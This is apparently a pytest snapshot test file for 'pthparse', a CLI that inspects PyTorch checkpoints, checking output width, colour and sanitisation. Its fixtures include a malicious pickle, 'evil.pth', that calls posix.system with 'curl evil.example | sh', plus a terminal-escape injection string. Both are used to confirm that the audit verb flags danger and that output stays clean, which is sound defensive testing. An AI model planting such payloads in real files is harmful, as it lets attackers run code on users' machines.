"""What each verb prints, to the letter: on terminals of 80, 120 and 200 columns, and into a pipe.

The texts are in tests/snapshots. `PTHPARSE_SNAPSHOTS=write pytest tests/unit/test_snapshots.py` renews them: read what
has changed before it is committed.
"""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import struct
import sys
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from forge import directories as d
from forge import pickles as p
from forge import zips
from rich.cells import cell_len

from pthparse.cli import VERBS, main

TESTS = Path(__file__).parents[1]
SNAPSHOTS = TESTS / "snapshots"
WRITE = os.environ.get("PTHPARSE_SNAPSHOTS") == "write"
WIDTHS = (80, 120, 200, None)
LONG = "encoder." + "very_" * 56 + "long.weight"
EVIL = "\x1b[31mred\x1b]0;title\x07[bold]x[/bold]\u202eabc\r\n"
CHINESE = "\u7f16\u7801\u5668.\u5c42.0.\u6ce8\u610f\u529b.\u6743\u91cd"

CASES = {
    "info": "info lesson.pth",
    "info-training": "info training.pth",
    "info-names": "info names.pth",
    "info-shards": "info sharded --shard",
    "info-nothing": "info nothing.pth cut.pth",
    "info-distributed": "info distributed",
    "ls": "ls lesson.pth layers.0.* --sort size",
    "ls-names": "ls names.pth",
    "ls-kinds": "ls quantized.pth",
    "ls-none": "ls lesson.pth none*",
    "tree": "tree lesson.pth",
    "tree-stated": "tree whole_model.pth",
    "tree-module": "tree lesson.pth layers.0.self_attn",
    "tree-names": "tree names.pth",
    "show": "show lesson.pth embed.weight",
    "show-value": "show training.pth optimizer/param_groups/0",
    "show-quantized": "show quantized.pth per_channel",
    "show-missing": "show lesson.pth embed.weigth",
    "stats": "stats lesson.pth layers.0.* --sort std --limit 5",
    "stats-names": "stats names.pth",
    "health": "stats names.pth --health",
    "capacity": "capacity lesson.pth",
    "capacity-training": "capacity training.pth",
    "capacity-shards": "capacity sharded --by shard",
    "plan": "plan lesson.pth --tokens 4096 --batch 2",
    "explain": "explain lesson.pth --part 4",
    "explain-zh": "explain lesson.pth --part 2 --lang zh",
    "audit": "audit lesson.pth whole_model.pth evil.pth cut.pth names.pth",
    "audit-shards": "audit missing",
    "audit-folder": "audit several",
    "verify": "verify lesson.pth flipped.pth cut.pth",
    "diff": "diff before.pth after.pth",
    "diff-same": "diff before.pth before.pth",
    "hash": "hash before.pth after.pth",
    "hash-check": "hash after.pth --check before.manifest",
    "convert": "convert before.pth out.safetensors --rename weight w --dtype bfloat16 --overwrite",
    "broken": "info text.pth",
}


def saved(tensors: Mapping[str, Sequence[float]], more: Mapping[str, bytes] = {}) -> bytes:
    rows = {name: p.vector(str(i), len(values)) for i, (name, values) in enumerate(tensors.items())}
    data = {str(i): struct.pack(f"<{len(values)}f", *values) for i, values in enumerate(tensors.values())}
    return zips.checkpoint(p.pickle(p.dict_of({**rows, **more})), data)


def hostile() -> bytes:
    """Names of every sort; a number, nothing, and far more than is stored."""
    more = {
        "scalar": p.tensor(p.storage("0", 8), [], []),
        "empty": p.tensor(p.storage("0", 8), [0, 5], [5, 1]),
        "huge": p.tensor(p.storage("0", 8), [1 << 40], [0]),
        "deep": p.tensor(p.storage("0", 8), [1] * 30, [1] * 30),
        "note": p.text(EVIL),
    }
    values = [1.5, -2.0, 0.0, 3e-5, 7.0, -7.0, 1e9, 4.0]
    return saved(
        {LONG: values, EVIL: [1.0], CHINESE: [2.0, 2.5], CHINESE * 8: [3.0], "nan": [np.nan, np.inf, 1.0]}, more
    )


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Everything that is looked at, in one folder, so that no path of a machine is shown."""
    folder = tmp_path_factory.mktemp("files")
    lesson = (TESTS / "data" / "lesson" / "lesson.pth").read_bytes()
    (folder / "lesson.pth").write_bytes(lesson)
    for name in ("training", "quantized", "whole_model"):
        shutil.copy(TESTS / "data" / "zoo" / "torch-2.13.0-py3.11" / f"{name}.pth", folder)
    flipped = bytearray(lesson)
    flipped[60_000] ^= 1
    layers = {f"layers.{i}.{kind}.weight": [i + j / 8 for j in range(8)] for i in range(3) for kind in ("up", "down")}
    after = {n: [x * 1.01 for x in v] if "1.up" in n else v for n, v in layers.items()}
    after["layers.0.renamed.weight"] = after.pop("layers.0.up.weight")
    texts = {
        "names.pth": hostile(),
        "nothing.pth": zips.checkpoint(p.pickle(p.dict_of({})), {}),
        "cut.pth": lesson[:80_000],
        "flipped.pth": bytes(flipped),
        "evil.pth": saved({"w": [1.0]}, {"x": p.call(p.glob("posix", "system"), p.text("curl evil.example | sh"))}),
        "many.pth": saved({f"blocks.{i}.weight": [float(i)] for i in range(1200)}),
        "before.pth": saved({**layers, "gone": [1.0]}, {"epoch": p.integer(1)}),
        "after.pth": saved({**after, "new": [2.0, 3.0]}, {"epoch": p.integer(2)}),
        "text.pth": b"version https://git-lfs.github.com/spec/v1\nsize 7\n",
    }
    for name, data in texts.items():
        (folder / name).write_bytes(data)
    (folder / "several").mkdir()
    for name in ("before", "evil", "lesson", "whole_model"):
        shutil.copy(folder / f"{name}.pth", folder / "several")
    assert main(["hash", str(folder / "before.pth"), "-o", str(folder / "before.manifest")]) == 0
    shards(folder / "sharded", layers)
    shards(folder / "missing", layers)
    (folder / "missing" / "pytorch_model-00002-of-00003.bin").unlink()
    distributed(folder / "distributed")
    return folder


def shards(folder: Path, tensors: Mapping[str, Sequence[float]]) -> None:
    folder.mkdir()
    weights = {}
    for i in range(3):
        part = {name: values for name, values in tensors.items() if name.startswith(f"layers.{i}.")}
        file = f"pytorch_model-{i + 1:05}-of-00003.bin"
        (folder / file).write_bytes(saved(part))
        weights |= dict.fromkeys(part, file)
    index = {"metadata": {"total_size": 4 * sum(map(len, tensors.values()))}, "weight_map": weights}
    (folder / "pytorch_model.bin.index.json").write_text(json.dumps(index))


def distributed(folder: Path) -> None:
    """One tensor in two chunks of two files, and one value."""
    folder.mkdir()
    left, right = (d.chunk([i + x for i in range(6)], (3, 2)) for x in (0.0, 0.5))
    epoch = zips.checkpoint(p.pickle(p.integer(7)), {})
    where = d.write(folder, {"__0_0.distcp": [left, epoch], "__1_0.distcp": [right]})
    places = [where["__0_0.distcp"][0], where["__1_0.distcp"][0], where["__0_0.distcp"][1]]
    keys = [d.index("model.w", (0, 0)), d.index("model.w", (0, 2)), d.index("epoch", None)]
    items = {"model.w": d.tensor((3, 4), [((0, 0), (3, 2)), ((0, 2), (3, 2))]), "epoch": d.value()}
    found = list(zip(keys, [d.info(*place) for place in places], strict=True))
    data = d.metadata(items, found, {"model.w": ("model", "w"), "epoch": ("epoch",)})
    (folder / ".metadata").write_bytes(data)


class Screen(io.TextIOWrapper):
    """A terminal, or what is like one but for its face."""

    def __init__(self, terminal: bool, encoding: str = "utf-8") -> None:
        super().__init__(io.BytesIO(), encoding=encoding, write_through=True)
        self.terminal = terminal

    def isatty(self) -> bool:
        return self.terminal

    def text(self) -> str:
        raw: bytes = self.buffer.getvalue()  # type: ignore[attr-defined]
        return raw.decode(self.encoding)


@pytest.fixture
def shown(files: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    """The exit code, and what stdout and stderr got."""
    monkeypatch.chdir(files)
    for name in ("NO_COLOR", "COLUMNS"):
        monkeypatch.delenv(name, raising=False)

    def call(words: str, width: int | None, encoding: str = "utf-8", **env: str) -> tuple[int, str, str]:
        out, err = Screen(width is not None, encoding), Screen(False, encoding)
        monkeypatch.setenv("TERM", "xterm-256color")
        if width is not None:
            monkeypatch.setenv("COLUMNS", str(width))
        for name, value in env.items():
            monkeypatch.setenv(name, value)
        monkeypatch.setattr(sys, "stdout", out)
        monkeypatch.setattr(sys, "stderr", err)
        try:
            code = main(words.split())
        finally:
            monkeypatch.undo()
            monkeypatch.chdir(files)
        return code, out.text(), err.text()

    return call


def test_every_verb_has_a_case() -> None:
    assert {words.split()[0] for words in CASES.values()} >= {
        *("info", "ls", "show", "stats", "capacity", "plan", "audit", "verify", "diff", "hash", "convert")
    }
    assert {words.split()[0] for words in CASES.values()} <= set(VERBS)


@pytest.mark.parametrize("width", WIDTHS, ids=lambda w: str(w or "pipe"))
@pytest.mark.parametrize("case", CASES)
def test_what_is_printed(shown: Any, case: str, width: int | None) -> None:
    code, out, err = shown(CASES[case], width, NO_COLOR="1")
    assert acting(out + err) == set()
    if width is not None:
        assert [line for line in out.splitlines() if cell_len(line) > width] == []
    told = f"$ pthparse {CASES[case]}\n{out}{''.join(f'stderr: {line}' for line in err.splitlines(True))}exit {code}\n"
    path = SNAPSHOTS / f"{case}.{width or 'pipe'}.txt"
    if WRITE:
        path.parent.mkdir(exist_ok=True)
        path.write_text(told)
    assert told == path.read_text()


@pytest.mark.parametrize("file", sorted(TESTS.glob("data/zoo/torch-2.13.0-py3.11/*.pth")), ids=lambda f: f.stem)
def test_the_zoo_fits(shown: Any, file: Path) -> None:
    for words in ("info", "ls", "stats", "capacity", "plan", "audit --all", "verify --all", "hash --all"):
        for width in (80, 120, 200):
            _, out, err = shown(f"{words} {file}", width, NO_COLOR="1")
            assert [line for line in out.splitlines() if cell_len(line) > width] == []
            assert acting(out + err) == set()


def acting(text: str) -> set[str]:
    """Characters that would act on a terminal."""
    return {c for c in text if not c.isprintable() and c != "\n"}


def test_no_snapshot_is_left_over() -> None:
    named = {f"{case}.{width or 'pipe'}.txt" for case in CASES for width in WIDTHS}
    assert {path.name for path in SNAPSHOTS.iterdir()} == named


@pytest.mark.parametrize("case", [case for case in CASES if case != "explain-zh"])
def test_a_terminal_of_ascii_gets_ascii(shown: Any, case: str) -> None:
    """What its encoding lacks is spelt out before it is measured, so it fits all the same."""
    _, out, err = shown(CASES[case], 80, "ascii", NO_COLOR="1")
    assert (out + err).isascii() and acting(out + err) == set()
    assert [line for line in out.splitlines() if len(line) > 80] == []


@pytest.mark.parametrize("width", [20, 40])
@pytest.mark.parametrize("case", CASES)
def test_the_narrowest_terminals_lose_no_digit(shown: Any, case: str, width: int) -> None:
    """Whatever number a row shows there stands in what a pipe gets."""
    _, out, _ = shown(CASES[case], width, NO_COLOR="1")
    _, whole, _ = shown(CASES[case], None)
    numbers = set(re.findall(r"(?<!\S)\d{1,3}(?:,\d{3})+(?!\S)", out))
    assert numbers <= set(re.findall(r"(?<![\d,])\d{1,3}(?:,\d{3})+(?![\d,])", whole)) and acting(out) == set()


COLOUR = re.compile(r"\x1b\[(\d*)m")


def test_colours_are_few_and_mean_the_same_everywhere(shown: Any) -> None:
    _, out, _ = shown("audit lesson.pth evil.pth", 80)
    assert out.startswith("\x1b[32mCLEAN\x1b[0m      \x1b[1mlesson.pth\x1b[0m   zip, ")
    assert "\x1b[31mDANGEROUS\x1b[0m  \x1b[1mevil.pth" in out and "  \x1b[31mdangerous\x1b[0m: posix.system(" in out
    _, out, _ = shown("verify flipped.pth", 80)
    assert out.startswith("\x1b[31mDAMAGED\x1b[0m    ")
    _, out, _ = shown("diff before.pth before.pth", 80)
    assert out.startswith("\x1b[32mSAME\x1b[0m  ")
    for words in CASES.values():
        colours = set(COLOUR.findall(shown(words, 120)[1]))
        assert colours <= {"0", "1", "2", "31", "32", "33", "36"}


@pytest.mark.parametrize("env", [{"NO_COLOR": "1"}, {"TERM": "dumb"}], ids=str)
def test_colours_can_be_had_off(shown: Any, env: dict[str, str]) -> None:
    for words in ("info lesson.pth", "audit evil.pth", "diff before.pth after.pth"):
        code, coloured, _ = shown(words, 120)
        assert shown(words, 120, **env)[:2] == (code, COLOUR.sub("", coloured))
    assert "\x1b" not in shown("audit evil.pth", None)[1]


def test_a_pipe_gets_names_whole_and_each_row_in_one_line(shown: Any) -> None:
    rows = shown("ls names.pth", None)[1].splitlines()
    assert len(rows) == 10 and rows[1].startswith(f"{LONG}  [8]") and rows[4].startswith(CHINESE * 8)
    assert len(shown("ls many.pth", None)[1].splitlines()) == 1201
    assert len(shown("ls many.pth", 80)[1].splitlines()) == 1002
    assert len(shown("ls many.pth --limit 1100", 80)[1].splitlines()) == 1102
